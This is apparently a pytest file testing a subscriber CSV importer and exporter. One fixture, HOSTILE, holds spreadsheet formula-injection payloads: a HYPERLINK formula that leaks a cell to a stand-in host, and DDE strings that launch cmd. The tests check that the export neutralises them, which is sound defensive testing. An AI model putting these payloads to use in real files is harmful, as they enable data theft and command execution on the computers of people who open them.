"""Importing and exporting the subscriber CSV against a real SQLite file."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

from composer.errors import StoreError, SubscriberFileError
from composer.store import NewSubscriber, SubscriberStore, address_key
from composer.store.csvio import FORMULA_STARTS, RejectedRow, export_csv, import_csv
from composer.store.membership import remove_subscriber
from composer.store.sqlite import SqliteSubscriberStore
from tests.conftest import write_csv

MIXED = """\
email,name,tier,tags
ann@example.com,Ann,paid,early;vip
not-an-address,Nobody,free,
bob@example.org,Bob,gold,
carol@example.net,"Carol, C",,
ann@EXAMPLE.COM,Ann again,free,
,No Address,,
dave@example.com,Dave,FREE,
"""


def test_bad_rows_are_reported_by_line_and_good_rows_are_imported(
    tmp_path: Path, store: SubscriberStore
) -> None:
    report = import_csv(write_csv(tmp_path / "list.csv", MIXED), store)
    assert [(row.line, row.value) for row in report.rejected] == [
        (3, "not-an-address"),
        (4, "gold"),
        (7, ""),
    ]
    assert "@-sign" in report.rejected[0].reason
    assert "bob@example.org" in report.rejected[1].reason
    assert [s.email for s in store.iter_all()] == [
        "ann@example.com",
        "carol@example.net",
        "dave@example.com",
    ]
    assert report.counts.added == 3


def test_duplicates_in_the_file_are_folded_into_the_first_row(
    tmp_path: Path, store: SubscriberStore
) -> None:
    report = import_csv(write_csv(tmp_path / "list.csv", MIXED), store)
    assert report.counts.duplicates == 1
    ann = store.get("ann@example.com")
    assert ann is not None
    assert (ann.name, ann.tier, ann.tags) == ("Ann", "paid", ("early", "vip"))


def test_addresses_already_in_the_store_are_updated_not_duplicated(
    tmp_path: Path, store: SubscriberStore
) -> None:
    import_csv(write_csv(tmp_path / "a.csv", "email,name\nann@example.com,Ann\n"), store)
    report = import_csv(
        write_csv(tmp_path / "b.csv", "email,tier\nann@Example.com,paid\nbob@example.com,\n"),
        store,
    )
    assert (report.counts.added, report.counts.updated) == (1, 1)
    ann = store.get("ann@example.com")
    assert ann is not None
    assert (ann.name, ann.tier) == ("Ann", "paid")


def test_removed_address_stays_unsubscribed_when_the_file_is_imported_again(
    tmp_path: Path, store: SubscriberStore
) -> None:
    path = write_csv(tmp_path / "list.csv", MIXED)
    import_csv(path, store)
    remove_subscriber(store, "ann@example.com")
    store.mark_status("dave@example.com", "bounced", "550 mailbox unknown")
    report = import_csv(path, store)
    assert report.counts.kept_inactive == 2
    statuses = {s.email: s.status for s in store.iter_all()}
    assert statuses == {
        "ann@example.com": "unsubscribed",
        "carol@example.net": "active",
        "dave@example.com": "bounced",
    }


def test_export_round_trips_through_a_fresh_database(tmp_path: Path) -> None:
    with SqliteSubscriberStore(tmp_path / "one.db") as first:
        import_csv(write_csv(tmp_path / "list.csv", MIXED), first)
        remove_subscriber(first, "carol@example.net")
        export_csv(first, tmp_path / "one.csv")
    with SqliteSubscriberStore(tmp_path / "two.db") as second:
        report = import_csv(tmp_path / "one.csv", second)
        assert report.rejected == () and report.ignored_columns == ()
        export_csv(second, tmp_path / "two.csv")
        carol = second.get("carol@example.net")
    assert (tmp_path / "two.csv").read_text() == (tmp_path / "one.csv").read_text()
    assert carol is not None and carol.status == "unsubscribed"


# Names (and one address, one tag, one reason) a spreadsheet would run as a formula, and
# names that really start with a quote, which the export's quote must not be confused with.
HOSTILE = {
    "a@example.com": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "b@example.com": "+1+cmd|' /C calc'!A0",
    "c@example.com": "-2+3",
    "d@example.com": "@SUM(1+1)*cmd|' /C calc'!A0",
    "e@example.com": "\tTabbed",
    "f@example.com": "\r=Returned",
    "g@example.com": "'Tis the season",
    "h@example.com": "'=already quoted",
    "i@example.com": "''",
    "-j@example.com": "Plain",
}


def save_hostile(store: SubscriberStore) -> None:
    for email, name in HOSTILE.items():
        key = address_key(email)
        store.save(NewSubscriber(email, key, name, tags=("=tag",), status_reason="+by hand"))
    store.mark_status("a@example.com", "unsubscribed", "-reason given by the reader")


def test_export_puts_a_quote_before_cells_a_spreadsheet_would_run(tmp_path: Path) -> None:
    with SqliteSubscriberStore(tmp_path / "one.db") as store:
        save_hostile(store)
        export_csv(store, tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    names = {row[0]: row[1] for row in rows}
    assert names["'-j@example.com"] == "Plain"
    assert names["a@example.com"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert names["e@example.com"] == "'\tTabbed"
    assert names["g@example.com"] == "''Tis the season"
    assert rows[0][3] == "'=tag" and rows[0][6] == "'-reason given by the reader"
    assert rows[1][6] == "'+by hand"


def test_export_with_formula_like_and_quoted_cells_round_trips_byte_for_byte(
    tmp_path: Path,
) -> None:
    with SqliteSubscriberStore(tmp_path / "one.db") as first:
        save_hostile(first)
        export_csv(first, tmp_path / "one.csv")
    with SqliteSubscriberStore(tmp_path / "two.db") as second:
        report = import_csv(tmp_path / "one.csv", second)
        assert report.rejected == () and report.counts.added == len(HOSTILE)
        export_csv(second, tmp_path / "two.csv")
        imported = {s.email: (s.name, s.tags) for s in second.iter_all()}
        reason = second.get("a@example.com")
    assert (tmp_path / "two.csv").read_bytes() == (tmp_path / "one.csv").read_bytes()
    assert imported == {email: (name, ("=tag",)) for email, name in HOSTILE.items()}
    assert reason is not None and reason.status_reason == "-reason given by the reader"


def test_a_hand_written_name_starting_with_a_quote_is_imported_as_written(
    tmp_path: Path, store: SubscriberStore
) -> None:
    import_csv(write_csv(tmp_path / "l.csv", "email,name\nann@example.com,'Tis Ann\n"), store)
    ann = store.get("ann@example.com")
    assert ann is not None and ann.name == "'Tis Ann"


def test_unknown_columns_are_named_and_ignored(tmp_path: Path, store: SubscriberStore) -> None:
    report = import_csv(write_csv(tmp_path / "l.csv", "Email,Teir\nann@example.com,paid\n"), store)
    assert report.ignored_columns == ("teir",)
    assert report.counts.added == 1


def test_a_row_with_more_values_than_columns_is_rejected(
    tmp_path: Path, store: SubscriberStore
) -> None:
    report = import_csv(write_csv(tmp_path / "l.csv", "email,name\nann@example.com,Ann,B\n"), store)
    assert report.rejected == (
        RejectedRow(
            2,
            "ann@example.com,Ann,B",
            "3 values but the header names 2 columns;"
            " put values that contain commas in double quotes",
        ),
    )


def test_a_byte_order_mark_from_excel_is_accepted(tmp_path: Path, store: SubscriberStore) -> None:
    path = tmp_path / "excel.csv"
    path.write_bytes("\ufeffemail\r\nann@example.com\r\n".encode())
    assert import_csv(path, store).counts.added == 1


def test_a_non_utf8_file_is_refused_before_anything_is_imported(
    tmp_path: Path, store: SubscriberStore
) -> None:
    path = tmp_path / "latin1.csv"
    path.write_bytes(
        "email,name\nann@example.com,Ann\nbob@example.com,Jos\u00e9\n".encode("latin-1")
    )
    with pytest.raises(SubscriberFileError, match=r"latin1.csv:3: not UTF-8"):
        import_csv(path, store)
    assert list(store.iter_all()) == []


def test_a_file_without_an_email_column_is_refused(tmp_path: Path, store: SubscriberStore) -> None:
    with pytest.raises(SubscriberFileError, match=r"l.csv:1: no `email` column .*found: name"):
        import_csv(write_csv(tmp_path / "l.csv", "name,tier\nAnn,paid\n"), store)


def test_an_import_that_fills_the_disk_stops_saying_how_many_rows_were_saved(
    tmp_path: Path,
) -> None:
    rows = "".join(f"reader{n}@example.com,Reader number {n}\n" for n in range(5000))
    path = write_csv(tmp_path / "big.csv", "email,name\n" + rows)
    with SqliteSubscriberStore(tmp_path / "full.db") as store:
        # Past this many pages SQLite answers SQLITE_FULL, "database or disk is full",
        # exactly as it does when the disk itself has no room left.
        db = store._db
        pages = db.execute("PRAGMA page_count").fetchone()[0]
        db.execute(f"PRAGMA max_page_count = {pages + 250}")
        with pytest.raises(StoreError, match=r"database or disk is full") as raised:
            import_csv(path, store)
        found = re.search(r"; ([\d,]+) rows were saved and the rest were not", raised.value.message)
        assert found is not None, raised.value.message
        saved = int(found[1].replace(",", ""))
        assert 0 < saved < 5000
        assert store.count_by_status()["active"] == saved

        db.execute("PRAGMA max_page_count = 1073741823")  # room again
        again = import_csv(path, store).counts
    assert (again.unchanged, again.added) == (saved, 5000 - saved)
